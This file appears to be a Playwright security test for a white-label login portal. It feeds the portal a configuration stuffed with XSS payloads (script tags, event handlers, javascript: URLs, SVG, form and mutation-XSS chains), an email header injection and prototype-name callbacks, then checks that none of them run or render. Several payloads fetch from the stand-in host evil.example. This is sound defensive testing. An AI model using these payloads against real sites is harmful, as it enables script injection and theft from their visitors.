import { expect, type Page } from '@playwright/test';
import { rawRequest } from '../edge/raw-request';
import { test } from '../portal/browser-test';
import { createCustomWhiteLabels, type CustomWhiteLabels } from '../portal/custom-white-labels';
import { startPortal, type TestPortal } from '../portal/start-portal';
import { watchForAttacks } from './watch-for-attacks';

/* Hostile texts of a client's file and of visitors, in pages. */

const RUN = 'window.ran=1;fetch(`https://evil.example`)';
/** A text that would run if it were HTML, short enough for every field. */
const IMAGE = '<img src=x onerror=window.ran=1>';
const NAME = `Ray"\r\nBcc: thief@evil.example\r\n\r\n${IMAGE}`.slice(0, 60);

function inBoth(text: string) {
  return { 'en-US': text, 'de-DE': text };
}

/** HTML for the HTML fields: everything except plain text must be removed. */
const HOSTILE_HTML = [
  '<b>Before</b>',
  `<script>${RUN}</script>`,
  `<img src="https://evil.example/x.gif" onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<form action="https://evil.example"><input name="p"><button formaction="javascript:${RUN}">x</button></form>`,
  '<style>body{background:url(https://evil.example)}</style>',
  `<iframe srcdoc="<script>${RUN}</script>"></iframe><object data="https://evil.example"></object>`,
  `<span onclick="${RUN}" onmouseover="${RUN}" style="position:fixed;inset:0" tabindex="0" autofocus onfocus="${RUN}">S</span>`,
  `<a href="javascript:${RUN}">one</a><a href=" java&#10;script:${RUN}">two</a><a href="//evil.example">three</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
].join('');

/** Hostile values that a file may contain. */
const HOSTILE = {
  name: NAME,
  heroText: { tagline1: inBoth(HOSTILE_HTML), tagline2: inBoth(HOSTILE_HTML) },
  loginFormLabels: {
    userLabel: inBoth(`User ID ${IMAGE}`),
    userPlaceholder: inBoth(`"><script>${RUN}</script>`),
    passwordLabel: inBoth(`Password ${IMAGE}`),
    buttonText: inBoth(`Log In ${IMAGE}`),
  },
  linkConfig: {
    links: [
      {
        kind: 'internal',
        label: inBoth(`Inside ${IMAGE}`),
        target: '/app/ray/termsOfUse?x=%22%3E%3Cscript%3E',
      },
      {
        kind: 'external',
        label: inBoth(`Outside ${IMAGE}`),
        target: "https://evil.example/'onclick='window.ran=1'",
      },
      // The name of a property that every object inherits, not of a registered function.
      { kind: 'callback', label: inBoth('Callback'), callback: 'constructor' },
    ],
  },
  selfRegLinkConfig: { links: [{ linkType: 'OAA', label: inBoth(`Register ${IMAGE}`) }] },
  sorryConfig: { primary: inBoth(`Sorry ${IMAGE}`), secondary: inBoth(`"><script>${RUN}</script>`) },
  checkBrowserConfig: {
    excludedBrowsers: ['Chrome', 'HeadlessChrome', IMAGE],
    title: inBoth(`Browser ${IMAGE}`),
    message: inBoth(`<script>${RUN}</script>`),
  },
  mobileSheetConfig: {
    sheetContent: inBoth(HOSTILE_HTML),
    actionButtonText: inBoth(`Open ${IMAGE}`),
    cancelButtonText: inBoth('Stay here'),
    methods: { onActionButtonClick: 'eval' },
  },
  support: {
    content: {
      phone: { number: '+44 20 7946 0261', note: inBoth(`Phone ${IMAGE}`) },
      text: inBoth(HOSTILE_HTML),
    },
  },
  wordings: {
    'en-US': { 'login-mf': { heading: `Heading ${IMAGE}<script>${RUN}</script>` } },
    'de-DE': { 'login-mf': { heading: `Heading ${IMAGE}<script>${RUN}</script>` } },
  },
};

let labels: CustomWhiteLabels;
let portal: TestPortal;
test.beforeAll(async () => {
  labels = createCustomWhiteLabels({ ray: HOSTILE });
  portal = await startPortal({
    PORTAL_ENVIRONMENT: 'LOCAL',
    WHITE_LABELS_DIR: labels.folder,
  });
});
test.afterAll(async () => {
  await portal.stop();
  labels.remove();
});

/** Elements and attributes of the page that only the hostile file can have added. */
function foreignIn(page: Page): Promise<readonly string[]> {
  return page.evaluate(() =>
    [...document.querySelectorAll('*')].flatMap((element) => {
      const found = element
        .getAttributeNames()
        .filter(
          (name) =>
            name.startsWith('on') ||
            (/^(?:style|src|srcdoc|action|formaction|href|xlink:href|data)$/.test(name) &&
              /evil|javascript:|window\.ran/.test(element.getAttribute(name) ?? '')),
        )
        // An external link may have a URL of another site.
        .filter(
          (name) => !(name === 'href' && element.getAttribute(name)?.startsWith('https://evil.example/')),
        )
        .map((name) => `${element.tagName} ${name}`);
      const isForeign =
        /^(?:IFRAME|OBJECT|EMBED|MATH|BASE)$/i.test(element.tagName) ||
        (element.tagName === 'IMG' && element.getAttribute('src') === 'x') ||
        (/^(?:SCRIPT|STYLE)$/i.test(element.tagName) &&
          /^\s*(?:window\.ran|body\{background:url)/.test(element.textContent));
      return isForeign ? [...found, element.tagName] : found;
    }),
  );
}

const PAGES = [
  '/app/ray/login?SMQUERYDATA=x',
  '/ray/fps',
  '/ray/fps?FTUF=Y',
  '/app/ray/logout',
  '/app/ray/systemUnavailable',
  '/app/ray/termsOfUse',
  '/app/ray/cookiePolicy',
];

test('nothing of a hostile file runs on any page, and its texts are shown as text @SEC-R9 @D-10', async ({
  page,
}) => {
  const attacks = await watchForAttacks(page, portal.origin);
  for (const address of PAGES) {
    // The server-rendered HTML must be safe as well, since pages are read without scripts, too.
    const { status, text } = await rawRequest(portal.origin, address);
    expect(status, address).toBe(200);
    expect(text, address).not.toMatch(
      /<img[^>]* onerror|<script>window\.ran|<svg onload|<form action="https:\/\/evil/,
    );
    await page.goto(portal.origin + address);
    await expect(page.locator('[data-prerendered]'), address).toHaveCount(0);
    expect(await foreignIn(page), address).toEqual([]);
    expect(await attacks(), address).toEqual([]);
  }
});

test('nothing runs when everything on the login page is opened and clicked @SEC-R9 @D-10 @long', async ({
  page,
}) => {
  const attacks = await watchForAttacks(page, portal.origin);
  await page.goto(`${portal.origin}/app/ray/login?SMQUERYDATA=x`);
  await expect(page.locator('[data-prerendered]')).toHaveCount(0);
  for (const text of [`Heading ${IMAGE}`, `User ID ${IMAGE}`, `Outside ${IMAGE}`, `Log In ${IMAGE}`])
    await expect(page.getByText(text).first()).toBeVisible();
  await page.getByText('Callback', { exact: true }).first().click();
  await page.getByRole('button', { name: 'Support' }).first().click();
  await expect(page.getByText(`Phone ${IMAGE}`).first()).toBeVisible();
  expect(await foreignIn(page)).toEqual([]);
  expect(await attacks()).toEqual([]);
});
